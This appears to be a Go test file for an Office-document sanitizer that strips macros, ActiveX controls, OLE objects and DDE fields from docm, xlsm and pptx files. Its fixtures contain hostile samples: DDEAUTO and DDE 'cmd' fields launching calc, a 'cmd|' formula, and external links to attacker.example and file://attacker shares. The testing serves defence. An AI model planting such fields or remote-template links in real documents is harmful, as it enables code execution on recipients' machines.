package ooxml

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"strings"
	"testing"
	"time"

	"mugai/sanitize/format"
)

const rNS = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
const relNS = `xmlns="http://schemas.openxmlformats.org/package/2006/relationships"`
const relBase = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

func pkg(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range sortedKeys(parts) {
		w, _ := zw.Create(name)
		io.WriteString(w, parts[name])
	}
	zw.Close()
	return buf.Bytes()
}

func sortedKeys(m map[string]string) []string {
	keys := []string{"[Content_Types].xml"}
	for k := range m {
		if k != "[Content_Types].xml" {
			keys = append(keys, k)
		}
	}
	return keys
}

func unpack(t *testing.T, b []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("output is not a zip: %v", err)
	}
	out := map[string]string{}
	for _, f := range zr.File {
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		out[f.Name] = string(b)
	}
	return out
}

// docm carries every construct the disarm must remove.
func docm(t testing.TB) []byte {
	return pkg(t, map[string]string{
		"[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Default Extension="xml" ContentType="application/xml"/>` +
			`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>` +
			`<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>` +
			`<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>` +
			`<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`,
		"_rels/.rels": `<Relationships ` + relNS + `><Relationship Id="rId1" Type="` + relBase + `officeDocument" Target="word/document.xml"/></Relationships>`,
		"word/_rels/document.xml.rels": `<Relationships ` + relNS + `>` +
			`<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>` +
			`<Relationship Id="rId2" Type="` + relBase + `control" Target="activeX/activeX1.xml"/>` +
			`<Relationship Id="rId3" Type="` + relBase + `oleObject" Target="embeddings/oleObject1.bin"/>` +
			`<Relationship Id="rId4" Type="` + relBase + `hyperlink" Target="https://city.example.lg.jp/" TargetMode="External"/>` +
			`<Relationship Id="rId5" Type="` + relBase + `oleObject" Target="file://attacker/share/payload.xls" TargetMode="External"/>` +
			`<Relationship Id="rId6" Type="` + relBase + `settings" Target="settings.xml"/></Relationships>`,
		"word/document.xml": `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ` + rNS + ` xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>` +
			`<w:p><w:r><w:t>見積書をお送りします。</w:t></w:r></w:p>` +
			`<w:p><w:r><w:object><v:shape xmlns:v="urn:v"/><o:OLEObject r:id="rId3"/></w:object></w:r></w:p>` +
			`<w:p><w:r><w:object><o:OLEObject r:id="rId5"/></w:object></w:r></w:p>` +
			`<w:p><w:r><w:control r:id="rId2" w:name="CommandButton1"/></w:r></w:p>` +
			`<w:p><w:hyperlink r:id="rId4"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink></w:p>` +
			`<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>` +
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE "cmd" "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
			`<w:tbl><w:tr><w:tc><w:p><w:r><w:t>品名</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>数量</w:t></w:r></w:p></w:tc></w:tr></w:tbl>` +
			`</w:body></w:document>`,
		"word/settings.xml":              `<w:settings xmlns:w="w" ` + rNS + `><w:attachedTemplate r:id="rId1"/></w:settings>`,
		"word/_rels/settings.xml.rels":   `<Relationships ` + relNS + `><Relationship Id="rId1" Type="` + relBase + `attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>`,
		"word/vbaProject.bin":            "VBA-PROJECT-BYTES",
		"word/activeX/activeX1.xml":      `<ax:ocx xmlns:ax="a"/>`,
		"word/embeddings/oleObject1.bin": "OLE-PAYLOAD",
	})
}

func disarm(t *testing.T, data []byte, name, typ string) (map[string]string, format.Verdict) {
	t.Helper()
	var out bytes.Buffer
	v, err := (&Disarmer{}).Sanitize(context.Background(), format.Part{Filename: name, SniffedType: typ}, bytes.NewReader(data), &out)
	if err != nil {
		t.Fatalf("disarm: %v", err)
	}
	return unpack(t, out.Bytes()), v
}

func TestDisarmDocm(t *testing.T) {
	parts, v := disarm(t, docm(t), "見積.docm", "application/vnd.ms-word.document.macroenabled.12")
	for _, gone := range []string{"word/vbaProject.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin"} {
		if _, ok := parts[gone]; ok {
			t.Errorf("%s survived", gone)
		}
	}
	doc := parts["word/document.xml"]
	for _, bad := range []string{"OLEObject", "w:object", "w:control", "DDEAUTO", "DDE \"cmd\"", "calc"} {
		if strings.Contains(doc, bad) {
			t.Errorf("document.xml still has %q", bad)
		}
	}
	for _, good := range []string{"見積書をお送りします。", `<w:hyperlink><w:r><w:t>市のサイト</w:t>`, "品名"} {
		if !strings.Contains(doc, good) {
			t.Errorf("document.xml lost %q", good)
		}
	}
	rels := parts["word/_rels/document.xml.rels"]
	if strings.Contains(rels, "attacker") || strings.Contains(rels, "vbaProject") || strings.Contains(rels, "External") {
		t.Errorf("rels: %s", rels)
	}
	if strings.Contains(parts["word/settings.xml"], "attachedTemplate") || strings.Contains(parts["word/_rels/settings.xml.rels"], "attacker") {
		t.Error("remote template survived")
	}
	ct := parts["[Content_Types].xml"]
	if strings.Contains(strings.ToLower(ct), "macroenabled") || strings.Contains(ct, "vbaProject") || strings.Contains(ct, "oleObject") ||
		!strings.Contains(ct, "wordprocessingml.document.main+xml") {
		t.Errorf("content types: %s", ct)
	}
	if v.Filename != "見積.docx" || v.Type != "application/vnd.openxmlformats-officedocument.wordprocessingml.document" {
		t.Errorf("verdict %+v", v)
	}
	for _, want := range []string{"VBA macros (1)", "ActiveX controls (1)", "embedded objects (1)", "external links and remote templates (2)", "links to web pages (1)", "DDE fields and formulas (2)"} {
		if !strings.Contains(v.EN(), want) {
			t.Errorf("removed %v lacks %q", v.Notes, want)
		}
	}
}

func TestDisarmXlsmAndPptx(t *testing.T) {
	xlsm := pkg(t, map[string]string{
		"[Content_Types].xml": `<Types xmlns="ct"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>` +
			`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>` +
			`<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>`,
		"xl/workbook.xml": `<workbook ` + rNS + `><sheets><sheet name="見積" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId3"/></sheets>` +
			`<externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships ` + relNS + `><Relationship Id="rId1" Type="` + relBase + `worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="` + relBase + `externalLink" Target="externalLinks/externalLink1.xml"/>` +
			`<Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml":           `<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f><v>0</v></c><c><f>SUM(A1:A3)</f><v>6</v></c></row></sheetData></worksheet>`,
		"xl/externalLinks/externalLink1.xml": `<externalLink/>`,
		"xl/macrosheets/sheet1.xml":          `<xm:macrosheet xmlns:xm="x"/>`,
	})
	parts, v := disarm(t, xlsm, "a.xlsm", "application/vnd.ms-excel.sheet.macroenabled.12")
	if strings.Contains(parts["xl/workbook.xml"], "externalReference") || strings.Contains(parts["xl/worksheets/sheet1.xml"], "cmd|") ||
		!strings.Contains(parts["xl/worksheets/sheet1.xml"], "<f>SUM(A1:A3)</f>") || parts["xl/macrosheets/sheet1.xml"] != "" {
		t.Errorf("xlsm parts: %v", parts)
	}
	if v.Filename != "a.xlsx" {
		t.Errorf("verdict %+v", v)
	}
	// The workbook still refers to the macro sheet: verify must refuse a
	// package with a dangling reference rather than emit it.
	if strings.Contains(parts["xl/workbook.xml"], `r:id="rId3"`) {
		t.Error("reference to the removed macro sheet survived")
	}

	pptx := pkg(t, map[string]string{
		"[Content_Types].xml":             `<Types xmlns="ct"/>`,
		"ppt/presentation.xml":            `<p:presentation xmlns:p="p" ` + rNS + `><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>`,
		"ppt/_rels/presentation.xml.rels": `<Relationships ` + relNS + `><Relationship Id="rId1" Type="` + relBase + `slide" Target="slides/slide1.xml"/></Relationships>`,
		"ppt/slides/slide1.xml": `<p:sld xmlns:p="p" xmlns:a="a" ` + rNS + `><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>議題</a:t></a:r></a:p></p:txBody></p:sp>` +
			`<p:graphicFrame><a:graphic><a:graphicData><p:oleObj r:id="rId2" progId="Package"/></a:graphicData></a:graphic></p:graphicFrame></p:spTree></p:cSld></p:sld>`,
		"ppt/slides/_rels/slide1.xml.rels": `<Relationships ` + relNS + `><Relationship Id="rId2" Type="` + relBase + `package" Target="../embeddings/x.bin"/></Relationships>`,
		"ppt/embeddings/x.bin":             "PACKAGE",
	})
	parts, _ = disarm(t, pptx, "a.pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation")
	slide := parts["ppt/slides/slide1.xml"]
	if strings.Contains(slide, "graphicFrame") || strings.Contains(slide, "oleObj") || !strings.Contains(slide, "議題") {
		t.Errorf("slide: %s", slide)
	}
}

func TestExtract(t *testing.T) {
	run := func(data []byte, name string) (string, format.Verdict) {
		var out bytes.Buffer
		v, err := (&Extractor{}).Sanitize(context.Background(), format.Part{Filename: name}, bytes.NewReader(data), &out)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return out.String(), v
	}
	text, v := run(docm(t), "見積.docm")
	if !strings.Contains(text, "見積書をお送りします。\r\n") || !strings.Contains(text, "品名\t数量\t") || v.Filename != "見積.txt" {
		t.Errorf("docx text %q, verdict %+v", text, v)
	}
	xlsx := pkg(t, map[string]string{
		"[Content_Types].xml":        `<Types/>`,
		"xl/workbook.xml":            `<workbook ` + rNS + `><sheets><sheet name="名簿" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships ` + relNS + `><Relationship Id="rId1" Type="t" Target="worksheets/sheet1.xml"/></Relationships>`,
		"xl/sharedStrings.xml":       `<sst><si><t>山田</t><rPh sb="0" eb="2"><t>ヤマダ</t></rPh></si><si><r><t>総務</t></r><r><t>課</t></r></si></sst>`,
		"xl/worksheets/sheet1.xml":   `<worksheet><sheetData><row><c t="s"><v>0</v></c><c t="s"><v>1</v></c><c><v>42</v></c></row><row><c t="inlineStr"><is><t>直接</t></is></c></row></sheetData></worksheet>`,
	})
	if text, _ := run(xlsx, "a.xlsx"); text != "## 名簿\r\n山田\t総務課\t42\r\n直接\r\n" {
		t.Errorf("xlsx text %q", text)
	}
}

func FuzzDisarm(f *testing.F) {
	f.Add(docm(f))
	f.Add(xlsxData(f))
	for _, c := range fieldCases() {
		f.Add(wordPkg(f, c.body, c.parts, c.rels, c.ct))
		// The document part alone: fuzzWrap puts it in a package, so
		// that mutations reach the XML rather than break the zip.
		f.Add([]byte(`<w:document ` + wNS + ` ` + rNS + `><w:body>` + c.body + `</w:body></w:document>`))
		for name, p := range c.parts {
			if strings.HasSuffix(name, ".xml") {
				f.Add([]byte(p))
			}
		}
	}
	f.Add([]byte(`<w:document ` + wNS + `><w:body><w:altChunk r:id="rIdA" ` + rNS + `/></w:body></w:document>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		stop := time.AfterFunc(10*time.Second, func() { panic("FuzzDisarm: one input ran over 10 s") })
		defer stop.Stop()
		var out bytes.Buffer
		if _, err := (&Disarmer{}).Sanitize(context.Background(), format.Part{}, bytes.NewReader(fuzzWrap(t, data)), &out); err != nil {
			return
		}
		// Whatever came out passed verify; check the headline promise
		// again, with code written apart from the disarmer's.
		parts, err := unpackAny(out.Bytes())
		if err != nil {
			t.Fatalf("output is not a zip: %v", err)
		}
		for name := range parts {
			if _, bad := removablePart(name); bad {
				t.Fatalf("%s survived", name)
			}
		}
		if bad := activeLeft(parts); len(bad) > 0 {
			t.Fatalf("active content left: %v", bad)
		}
	})
}
